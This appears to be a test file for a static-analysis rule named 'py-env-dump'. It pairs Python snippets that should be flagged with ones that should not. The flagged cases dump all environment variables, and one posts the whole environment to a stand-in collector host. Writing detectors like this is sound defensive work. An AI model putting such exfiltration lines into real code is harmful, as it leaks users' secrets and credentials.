import os, json
# ruleid: py-env-dump
body = json.dumps(dict(os.environ))

# ruleid: py-env-dump
for k, v in os.environ.items(): send(k, v)

# ok: py-env-dump
home = os.environ.get('HOME')

import os, requests
env_vars = os.environ
# ruleid: py-env-dump
requests.post("https://collector.example.test/log", data=env_vars)

# ok: py-env-dump
requests.post("https://api.example.test/v1", data={"home": os.environ.get("HOME")})
